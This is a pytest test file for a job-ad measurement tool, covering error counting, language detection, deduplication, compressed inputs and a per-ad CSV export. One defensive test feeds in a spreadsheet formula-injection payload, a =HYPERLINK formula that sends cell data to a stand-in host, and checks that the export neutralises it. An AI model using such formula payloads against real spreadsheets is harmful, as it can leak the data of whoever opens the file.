"""``measure``: a whole run over files, with bad inputs counted and the rest measured."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kompetens.engine import Engine
from kompetens.errors import Code, KompetensError
from kompetens.market import AdFacts, count_inputs, measure
from kompetens.models import AREA_IDS

from .support import figures, oracle

CONTRACT = {
    "ads": int,
    "social_media_ads": int,
    "social_media_ads_title_silent": int,
    "by_year": dict,
    "by_area": dict,
}


def test_contract_keys_and_types(engine: Engine, corpus: Path) -> None:
    d = measure(engine, [corpus]).to_dict()
    for key, kind in CONTRACT.items():
        assert isinstance(d[key], kind), key
    assert list(d["by_area"]) == list(AREA_IDS)
    assert all(isinstance(v, int) for v in d["by_area"].values())
    for year, c in d["by_year"].items():
        assert year.isdigit() and len(year) == 4
        assert isinstance(c["ads"], int) and isinstance(c["social_media_ads"], int)
    json.dumps(d)  # plain JSON values only


def test_run_equals_the_facts(engine: Engine, corpus: Path, facts: list[AdFacts]) -> None:
    report = measure(engine, [corpus])
    assert figures(report.to_dict()) == oracle(facts)
    assert report.error_count == 0 and report.errors == []
    assert report.run is not None and report.run.backend == "duckdb"
    assert report.run.measured == len(facts) and report.run.ads_per_second > 0


def test_by_year_keys_are_the_years_of_the_dated_ads(
    engine: Engine, corpus: Path, facts: list[AdFacts]
) -> None:
    d = measure(engine, [corpus]).to_dict()
    assert set(d["by_year"]) == {str(f.year) for f in facts if f.year is not None}
    assert sum(c["ads"] for c in d["by_year"].values()) + d["undated"] == d["ads"]


@pytest.mark.parametrize(
    ("bad", "code"),
    [
        ("{this is not json", Code.E107),
        ('"just a string"', Code.E107),
        ('{"headline": "", "description": {"text": " "}}', Code.E110),
        ('{"headline": "Tom", "description": {"text": ""}}', Code.E110),  # a headline alone: not measured
    ],
)
def test_bad_line_is_counted_and_the_rest_measured(
    engine: Engine, corpus: Path, facts: list[AdFacts], tmp_path: Path, bad: str, code: Code
) -> None:
    lines = corpus.read_text(encoding="utf-8").splitlines()
    spoiled = tmp_path / "spoiled.jsonl"
    spoiled.write_text("\n".join([*lines[:3], bad, *lines[3:]]) + "\n", encoding="utf-8")
    report = measure(engine, [spoiled])
    assert report.error_count == 1
    (error,) = report.errors
    assert error.code == code and error.source == f"{spoiled}#4"
    assert figures(report.to_dict()) == oracle(facts)
    assert report.to_dict()["failed"][0]["error"]["code"] == code.name


def test_missing_and_unsupported_files_do_not_stop_the_run(
    engine: Engine, corpus: Path, facts: list[AdFacts], tmp_path: Path
) -> None:
    odd = tmp_path / "ads.xlsx"
    odd.write_bytes(b"PK\x03\x04")
    report = measure(engine, [tmp_path / "nowhere.jsonl", odd, corpus])
    assert report.error_count == 2
    assert {e.code for e in report.errors} == {Code.E100, Code.E108}
    assert report.ads == len({f.key for f in facts})


def test_unsupported_files_are_named_as_the_market_reads_them(engine: Engine, tmp_path: Path) -> None:
    """A new user's finding: the known types left out .csv, and an image among ads was 'the CV'."""
    odd = tmp_path / "ads.dat"
    odd.write_bytes(b"x")
    folder = tmp_path / "ads"
    folder.mkdir()
    (folder / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n0000")
    report = measure(engine, [odd, folder])
    unknown, image = report.errors
    assert unknown.code == image.code == Code.E108
    assert unknown.message.endswith(".jsonl, .ndjson, .csv, .tsv")
    assert "give the ad as PDF" in image.message and "CV" not in image.message


def test_ads_in_an_unsupported_language_are_errors(engine: Engine, tmp_path: Path) -> None:
    ad = {
        "id": "fictional-de-1",
        "headline": "Social-Media-Manager",
        "description": {
            "text": "Sie betreuen unsere Kanäle auf Instagram und Facebook und beantworten Fragen unserer "
            "Kundinnen und Kunden. Sie erstellen Inhalte und werten die Reichweite aus."
        },
    }
    path = tmp_path / "de.jsonl"
    path.write_text(json.dumps(ad, ensure_ascii=False) + "\n", encoding="utf-8")
    report = measure(engine, [path])
    assert report.ads == 0 and report.error_count == 1
    assert report.errors[0].code == Code.E109 and report.errors[0].source == f"{path}#1"


def test_progress_is_reported(engine: Engine, corpus: Path, facts: list[AdFacts]) -> None:
    calls: list[tuple[int, int]] = []
    measure(engine, [corpus], progress=lambda ads, errors: calls.append((ads, errors)), every=5)
    assert calls[-1] == (len(facts), 0)
    assert len(calls) >= len(facts) // 5
    assert calls == sorted(calls)


def test_count_inputs(corpus: Path, facts: list[AdFacts], tmp_path: Path) -> None:
    (tmp_path / "one.json").write_text("{}", encoding="utf-8")
    (tmp_path / "a.jsonl").write_bytes(corpus.read_bytes() + b"\n\n")
    (tmp_path / ".hidden.jsonl").write_bytes(corpus.read_bytes())
    assert count_inputs([tmp_path]) == len(facts) + 1


def test_lang_reads_every_ad_in_that_language(engine: Engine, tmp_path: Path) -> None:
    """``market --lang``: an ad too short to tell its language is measured as the corpus's language; the
    same ad without it is E109, whose message names the option."""
    path = tmp_path / "short.jsonl"
    lines = [
        {"id": "fictional-short-1", "headline": "Säljare", "description": {"text": "Ring oss."}},
        {"id": "fictional-short-2", "headline": "Barista", "description": {"text": "Helg."}},
    ]
    path.write_text("".join(json.dumps(a, ensure_ascii=False) + "\n" for a in lines), encoding="utf-8")
    told = measure(engine, [path])
    assert told.ads == 0 and told.error_count == 2
    assert {e.code for e in told.errors} == {Code.E109} and "--lang" in told.errors[0].message
    forced = measure(engine, [path], lang="sv")
    assert forced.error_count == 0 and forced.ads == 2
    assert forced.to_dict()["by_lang"] == {"sv": 2}


def test_lang_outside_the_supported_ones_is_refused(engine: Engine, corpus: Path) -> None:
    with pytest.raises(KompetensError) as info:
        engine.market([corpus], lang="fr")
    assert info.value.code == Code.E109 and info.value.field == "lang"


def test_a_corpus_read_twice_counts_once_and_says_so(
    engine: Engine, corpus: Path, facts: list[AdFacts]
) -> None:
    report = measure(engine, [corpus, corpus])
    d = report.to_dict()
    assert d["ads"] == len({f.key for f in facts}) and d["ads_read"] == 2 * len(facts)
    assert f"{2 * len(facts):,} read, {d['ads']:,} distinct" in report.render_text(width=140)


def test_one_path_as_a_string_is_one_corpus(
    engine: Engine, corpus: Path, facts: list[AdFacts], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ``str`` (or ``Path``) is one corpus, not one file per character: ``"ads.jsonl"`` read as ``a``,
    ``d``, ``s``, ``.``... measured the working folder too (its ``.``), and a ``/`` the whole filesystem."""
    (tmp_path / "ads.jsonl").write_bytes(corpus.read_bytes())
    (tmp_path / "other.jsonl").write_bytes(corpus.read_bytes())
    monkeypatch.chdir(tmp_path)
    for given in ("ads.jsonl", Path("ads.jsonl")):
        d = measure(engine, given).to_dict()
        assert (d["ads_read"], d["errors"]) == (len(facts), 0), given
        assert engine.market(given).to_dict()["ads_read"] == len(facts)
        assert count_inputs(given) == len(facts)
        assert {item.source.partition("#")[0] for item in engine.read(given, kind="ad")} == {"ads.jsonl"}
    assert engine.not_csv("ads.jsonl") == [Path("ads.jsonl")]


@pytest.mark.parametrize("given", [b"ads.jsonl", 3, [Path("a.jsonl"), 3], None])
def test_what_is_no_path_is_a_type_error_at_the_call(engine: Engine, given: object) -> None:
    with pytest.raises(TypeError, match="path"):
        measure(engine, given)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="path"):
        engine.read(given)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="path"):
        engine.market(given)  # type: ignore[arg-type]


def test_the_facts_of_every_counted_ad_are_written_as_csv(
    engine: Engine, corpus: Path, facts: list[AdFacts], tmp_path: Path
) -> None:
    """A bug hunt: no per-ad export of which ads were counted (an analyst ran review --json per ad)."""
    import csv

    from kompetens.market.report import FACTS_CSV_HEADER

    out = tmp_path / "facts.csv"
    report = measure(engine, [corpus, corpus], facts=out)  # read twice: each ad once
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == FACTS_CSV_HEADER and len(rows) == report.ads
    by_key = {f.key: f for f in facts}
    assert {r["key"] for r in rows} == set(by_key)
    for r in rows:
        f = by_key[r["key"]]
        social = (
            "merit"
            if f.requires_social_media and f.social_media_merit
            else "yes"
            if f.requires_social_media
            else "no"
        )
        assert r["social_media"] == social and r["title_silent"] == str(f.title_silent).lower()
        assert r["areas"].split(";") == [a for a in AREA_IDS if f.areas[a] >= 0.05] or (
            r["areas"],
            f.asked(),
        ) == ("", frozenset())
        assert r["year"] == ("" if f.year is None else str(f.year))
        assert set(filter(None, r["strong_flags"].split(";"))) == set(f.strong_flags)
    assert sum(r["social_media"] != "no" for r in rows) == report.social_media_ads
    assert sum(r["social_media"] == "merit" for r in rows) == report.total.social_media_ads_merit_only > 0
    lines = [int(r["source"].rpartition("#")[2]) for r in rows]
    assert lines == sorted(lines)  # in line order: #10 after #9


def test_the_facts_csv_writes_no_formula(engine: Engine, tmp_path: Path) -> None:
    """A bug hunt, hJ: an ad (public, posted by anyone) titled ``=HYPERLINK(...)`` with a region ``+46 ...``
    was written to ``--facts`` as it was, and Excel runs such a cell. Now it reads as text (a leading ``'``,
    as the shortlist export writes); other cells are unchanged."""
    import csv

    text = (
        "Vi söker en fiktiv kommunikatör som driver våra kanaler på Instagram och LinkedIn, skriver inlägg "
        "och följer upp räckvidd och engagemang varje vecka."
    )
    ad = {
        "id": "f1",
        "headline": '=HYPERLINK("http://exempel.invalid/?"&A1,"Klicka")',
        "description": {"text": text},
        "publication_date": "2025-05-01T00:00:00",
        "workplace_address": {"region": "+46 Exempellän", "municipality": "@SUM(1+1)"},
        "occupation": {"label": "-Kommunikatör"},
    }
    corpus = tmp_path / "ads.jsonl"
    corpus.write_text(json.dumps(ad, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "facts.csv"
    measure(engine, [corpus], facts=out)
    with out.open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["title"] == "'" + ad["headline"]
    assert (row["region"], row["municipality"], row["occupation"]) == (
        "'+46 Exempellän",
        "'@SUM(1+1)",
        "'-Kommunikatör",
    )
    assert row["key"] == "id:f1" and row["year"] == "2025" and row["lang"] == "sv"


def test_a_packed_corpus_measures_as_the_plain_one(
    engine: Engine, corpus: Path, facts: list[AdFacts], tmp_path: Path
) -> None:
    """JobTech's historical ads come zipped (a bug hunt, hJ, found ``.jsonl.gz`` refused): a gzip-packed
    corpus and a zip of it give the same figures as the plain file, and the progress total counts its
    lines."""
    import gzip
    import zipfile

    packed = tmp_path / "ads.jsonl.gz"
    packed.write_bytes(gzip.compress(corpus.read_bytes()))
    zipped = tmp_path / "ads.zip"
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("2024/ads.jsonl", corpus.read_bytes())
    for path in (packed, zipped):
        assert figures(measure(engine, [path]).to_dict()) == oracle(facts)
        assert count_inputs([path]) == len(facts)
